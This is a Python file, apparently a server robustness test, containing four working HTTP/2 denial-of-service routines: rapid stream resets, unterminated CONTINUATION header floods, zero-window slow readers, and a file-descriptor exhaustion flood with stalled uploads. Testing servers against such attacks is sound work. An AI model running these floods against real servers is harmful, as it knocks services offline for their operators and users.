"""Attacks by HTTP/2: each gets a server and returns when it is over."""
import struct

from server import block, demand, frame, hold, http2, many

STREAMS = 120  # at one time, of a connection that may have 128


def resets_of_http2(server):
    def work(number, is_over):
        connection = http2(server)
        for stream in range(1, 4001, 2):
            connection.sendall(frame(1, 5, stream, block(b"GET", b"/"))
                               + frame(3, 0, stream, struct.pack(">I", 8)))
            if is_over():
                break
        connection.close()
    many(8, work)


def fields_without_an_end_on_http2(server):
    def work(number, is_over):
        connection = http2(server)
        connection.sendall(frame(1, 1, 1, block(b"GET", b"/")))
        while not is_over():
            connection.sendall(frame(9, 0, 1, block(b"", b"", (b"x-a", b"y" * 120))[-130:]))
    many(8, work)


def slow_readers_on_http2(server):
    """Long answers on many streams: half of the connections have windows and do not read, the
    other half has no windows."""
    open_ones = []
    for number in range(16):
        window = 0 if number % 2 else 0x7fffffff
        connection = http2(server, struct.pack(">HI", 4, window), receive_buffer=4096)
        connection.settimeout(1)
        asked = (block(b"GET", b"/"), block(b"GET", b"/big"),
                 block(b"PROPFIND", b"/", (b"depth", b"1")))
        heads = b"".join(frame(1, 5, stream, asked[stream // 2 % 3])
                         for stream in range(1, 2 * STREAMS, 2))
        try:
            connection.sendall(frame(8, 0, 0, struct.pack(">I", 0x70000000)) + heads)
        except OSError:
            pass
        open_ones.append(connection)
    hold(open_ones)


def descriptor_flood_on_http2(server):
    """Uploads that stop and answers that nobody reads on more streams than there are files."""
    open_ones = []
    for number in range(16):
        connection = http2(server, struct.pack(">HI", 4, 0), receive_buffer=4096)
        connection.settimeout(1)
        frames = b""
        for stream in range(1, 2 * STREAMS, 2):
            if stream % 4 == 1:
                frames += frame(1, 5, stream, block(b"GET", b"/big"))
            else:
                put = block(b"PUT", b"/up%d-%d" % (number, stream))
                frames += frame(1, 4, stream, put) + frame(0, 0, stream, b"a few")
        try:
            connection.sendall(frames)
        except OSError:
            pass
        open_ones.append(connection)
    status, _ = server.ask(b"PUT", b"/mine", b"", b"honest too")
    demand(status in (201, 204), f"the honest client cannot write: {status}")
    hold(open_ones)
